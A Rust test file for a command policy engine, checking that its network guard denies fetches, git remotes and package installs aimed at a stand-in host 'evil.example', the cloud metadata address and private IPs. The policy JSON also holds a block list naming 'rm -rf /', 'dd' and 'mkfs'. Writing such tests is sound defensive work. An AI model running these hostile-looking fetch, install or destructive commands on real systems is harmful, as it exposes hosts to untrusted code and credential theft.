//! The URLs and remotes a command's tools connect to are judged by the
//! policy's network guard (docs/commands.md, "Network destinations").

use std::path::Path;

use crate::engine::Engine;
use crate::guards::network::NetworkRequest;
use crate::policy::tests::WORKSPACE_JSON;

struct Fixture {
    _dir: tempfile::TempDir,
    ws: std::path::PathBuf,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::write(ws.join("requirements.txt"), "requests\n").unwrap();
    std::fs::write(ws.join("package.json"), "{}\n").unwrap();
    Fixture { _dir: dir, ws }
}

fn engine(f: &Fixture, policy: &str) -> Engine {
    Engine::from_json(policy, &f.ws, Path::new("/home/u")).unwrap()
}

/// The WORKSPACE preset: github.com and registry.npmjs.org over https,
/// localhost allowed.
fn workspace(f: &Fixture) -> Engine {
    engine(f, WORKSPACE_JSON)
}

/// `(verdict, code)` of a command.
fn decide(e: &Engine, cmd: &str) -> (String, String) {
    let a = e.analyze_command(cmd);
    (a.verdict.to_string(), a.code.to_string())
}

fn assert_decides(e: &Engine, cmd: &str, verdict: &str, code: &str) {
    let a = e.analyze_command(cmd);
    assert_eq!(
        (a.verdict, a.code),
        (verdict, code),
        "{cmd}: {} ({:?})",
        a.reason,
        a.findings
    );
}

#[test]
fn urls_the_policy_refuses_deny_the_command_with_the_network_code() {
    let f = fixture();
    let e = workspace(&f);
    for (cmd, code) in [
        ("curl https://evil.example/x", "DOMAIN_NOT_ALLOWED"),
        ("curl -o out http://github.com/x", "SCHEME_NOT_ALLOWED"),
        ("wget https://evil.example/payload", "DOMAIN_NOT_ALLOWED"),
        (
            "curl -sSL https://evil.example | head",
            "DOMAIN_NOT_ALLOWED",
        ),
        ("curl evil.example/x", "SCHEME_NOT_ALLOWED"),
        (
            "curl --proto-default https evil.example/x",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "curl https://{github.com,evil.example}/x",
            "DOMAIN_NOT_ALLOWED",
        ),
        ("curl --url https://evil.example/x", "DOMAIN_NOT_ALLOWED"),
        (
            "curl -x http://evil.example:3128 https://github.com/",
            "SCHEME_NOT_ALLOWED",
        ),
        (
            "curl -x https://evil.example:3128 https://github.com/",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "curl --resolve github.com:443:169.254.169.254 https://github.com/",
            "METADATA_ENDPOINT",
        ),
        (
            "curl --connect-to ::evil.example:443 https://github.com/",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "curl https://169.254.169.254/latest/meta-data/",
            "METADATA_ENDPOINT",
        ),
        ("curl https://10.0.0.5/", "PRIVATE_ADDRESS"),
        ("git clone https://evil.example/r.git", "DOMAIN_NOT_ALLOWED"),
        ("git fetch https://evil.example/r", "DOMAIN_NOT_ALLOWED"),
        ("git pull https://evil.example/r main", "DOMAIN_NOT_ALLOWED"),
        ("git push https://evil.example/r main", "DOMAIN_NOT_ALLOWED"),
        ("git ls-remote https://evil.example/r", "DOMAIN_NOT_ALLOWED"),
        (
            "git submodule add https://evil.example/r",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "git remote add up https://evil.example/r",
            "DOMAIN_NOT_ALLOWED",
        ),
        ("git clone git@evil.example:org/r.git", "DOMAIN_NOT_ALLOWED"),
        ("git clone evil.example:r.git", "DOMAIN_NOT_ALLOWED"),
        (
            "git clone ssh://git@evil.example/r.git",
            "DOMAIN_NOT_ALLOWED",
        ),
        ("git clone git://evil.example/r.git", "DOMAIN_NOT_ALLOWED"),
        (
            "git clone http://github.com/org/r.git",
            "SCHEME_NOT_ALLOWED",
        ),
        (
            "python3 -m pip download --index-url https://evil.example/simple x",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "pip install --extra-index-url https://evil.example/simple x",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "pip install -i https://evil.example/simple x",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "npm install --registry https://evil.example/ x",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "npm install https://evil.example/x.tgz",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "npm install git+https://evil.example/r.git",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "pip install https://evil.example/x.whl",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "pip install 'x @ https://evil.example/x.whl'",
            "DOMAIN_NOT_ALLOWED",
        ),
        (
            "pip install git+https://evil.example/r.git",
            "DOMAIN_NOT_ALLOWED",
        ),
        ("yarn add https://evil.example/x.tgz", "DOMAIN_NOT_ALLOWED"),
        ("pnpm add https://evil.example/x.tgz", "DOMAIN_NOT_ALLOWED"),
    ] {
        assert_decides(&e, cmd, "deny", code);
        let a = e.analyze_command(cmd);
        assert!(
            a.reason.contains("evil.example")
                || a.reason.contains("github.com")
                || a.reason.contains("169.254")
                || a.reason.contains("10.0.0.5"),
            "{cmd}: the message names the URL: {}",
            a.reason
        );
    }
}

#[test]
fn plain_http_to_loopback_follows_allow_http_as_the_network_guard_does() {
    let f = fixture();
    // WORKSPACE is https only: the guard refuses a plain-http dev server.
    assert_decides(
        &workspace(&f),
        "curl http://localhost:8080/health",
        "deny",
        "SCHEME_NOT_ALLOWED",
    );
    let http = WORKSPACE_JSON.replace("\"allow_http\": false", "\"allow_http\": true");
    let e = engine(&f, &http);
    assert_decides(&e, "curl http://localhost:8080/health", "allow", "ALLOWED");
    assert_decides(
        &e,
        "curl http://evil.example/",
        "deny",
        "DOMAIN_NOT_ALLOWED",
    );
}

#[test]
fn the_decision_agrees_with_the_network_guard() {
    let f = fixture();
    let e = workspace(&f);
    for url in [
        "https://evil.example/x",
        "http://github.com/x",
        "https://github.com/x",
        "https://registry.npmjs.org/x",
        "http://localhost:8080/health",
        "https://169.254.169.254/",
    ] {
        let net = e.check_network(&NetworkRequest {
            url,
            method: "GET",
            addresses: None,
        });
        let cmd = e.analyze_command(&format!("curl {url}"));
        if net.is_allowed() {
            assert_eq!(cmd.verdict, "allow", "curl {url}: {}", cmd.reason);
        } else {
            assert_eq!(
                (cmd.verdict, cmd.code),
                ("deny", net.code.as_str()),
                "curl {url}: {}",
                cmd.reason
            );
        }
    }
}

#[test]
fn ordinary_fetches_from_allowed_places_stay_allowed() {
    let f = fixture();
    let e = workspace(&f);
    for cmd in [
        "git clone https://github.com/org/r.git",
        "git clone git@github.com:org/r.git",
        "git clone ssh://git@github.com/org/r.git",
        "npm install",
        "npm install left-pad",
        "npm install --registry https://registry.npmjs.org/ left-pad",
        "git fetch origin",
        "git pull",
        "git push origin main",
        "curl https://localhost:8443/health",
        "curl -sk https://127.0.0.1:3000/",
        "curl -sSL https://github.com/org/r/archive/main.tar.gz -o main.tar.gz",
        "curl \"https://api.github.com/repos/$REPO/releases\"",
        "wget https://github.com/org/r/archive/main.zip",
        "pip install -r requirements.txt",
        "pip install requests",
        "ls -la",
        "echo \"$URL\"",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
}

#[test]
fn a_computed_destination_is_not_allowed_silently_under_a_restricting_policy() {
    let f = fixture();
    let e = workspace(&f);
    for cmd in [
        "curl -- \"$URL\"",
        "curl -s -- \"$(cat url.txt)\"",
        "curl -- \"https://$HOST/x\"",
        "wget -- \"$URL\"",
        "git clone $REPO",
        "curl -x \"$PROXY\" https://github.com/",
    ] {
        let (v, c) = decide(&e, cmd);
        assert_eq!(v, "ask", "{cmd}: {c}");
        assert!(c.starts_with("UNMODELLED_"), "{cmd}: {c}");
    }
    // Without any restriction of public destinations there is nothing to
    // ask about.
    let open = WORKSPACE_JSON
        .replace("[\"registry.npmjs.org\", \"github.com\"]", "null")
        .replace("\"allow_http\": false", "\"allow_http\": true");
    let e = engine(&f, &open);
    assert_decides(&e, "curl -- \"$URL\"", "allow", "ALLOWED");
    assert_decides(&e, "curl http://localhost:8080/health", "allow", "ALLOWED");
    assert_decides(&e, "curl https://evil.example/x", "allow", "ALLOWED");
    assert_decides(
        &e,
        "curl https://169.254.169.254/",
        "deny",
        "METADATA_ENDPOINT",
    );
}

#[test]
fn a_disabled_network_refuses_every_fetch() {
    let f = fixture();
    let off = WORKSPACE_JSON.replace("\"enabled\": true", "\"enabled\": false");
    let e = engine(&f, &off);
    for cmd in [
        "curl https://github.com/x",
        "curl http://localhost:8080/health",
        "wget https://github.com/x",
        "git clone https://github.com/org/r.git",
        "git clone git@github.com:org/r.git",
        "git fetch https://github.com/org/r",
        "pip install -i https://registry.npmjs.org/simple x",
        "npm install --registry https://registry.npmjs.org/ x",
        "npm install https://github.com/x.tgz",
    ] {
        assert_decides(&e, cmd, "deny", "NETWORK_DISABLED");
    }
    // A remote by name or no URL at all is not judged here.
    for cmd in [
        "git status",
        "ls -la",
        "git fetch origin",
        "cat f | sort > out",
    ] {
        assert_decides(&e, cmd, "allow", "ALLOWED");
    }
}

#[test]
fn a_whitelist_that_lists_curl_still_applies_the_network_policy() {
    let f = fixture();
    let wl = WORKSPACE_JSON.replace(
        "\"mode\": \"blacklist\", \"blocked_commands\": [\"sudo\", \"rm -rf /\", \"dd\", \"mkfs\"]",
        "\"mode\": \"whitelist\", \"allowed_commands\": [\"curl\", \"git\"]",
    );
    assert_ne!(wl, WORKSPACE_JSON);
    let e = engine(&f, &wl);
    assert_decides(&e, "curl https://github.com/x", "allow", "ALLOWED");
    assert_decides(
        &e,
        "curl https://evil.example/x",
        "deny",
        "DOMAIN_NOT_ALLOWED",
    );
    assert_decides(
        &e,
        "git clone https://evil.example/r",
        "deny",
        "DOMAIN_NOT_ALLOWED",
    );
    let (v, c) = decide(&e, "curl -- \"$URL\"");
    assert_eq!((v.as_str(), c.as_str()), ("deny", "UNMODELLED_OPERAND"));
}

#[test]
fn blocked_domains_and_localhost_follow_the_policy() {
    let f = fixture();
    let p = WORKSPACE_JSON
        .replace("[\"registry.npmjs.org\", \"github.com\"]", "null")
        .replace(
            "\"allow_localhost\": true",
            "\"allow_localhost\": false, \"blocked_domains\": [\"evil.example\"]",
        );
    let e = engine(&f, &p);
    assert_decides(&e, "curl https://a.evil.example/", "deny", "BLOCKED_DOMAIN");
    assert_decides(&e, "git clone git@evil.example:r", "deny", "BLOCKED_DOMAIN");
    assert_decides(
        &e,
        "curl https://localhost:8443/",
        "deny",
        "LOCALHOST_NOT_ALLOWED",
    );
    assert_decides(&e, "curl https://example.org/", "allow", "ALLOWED");
}
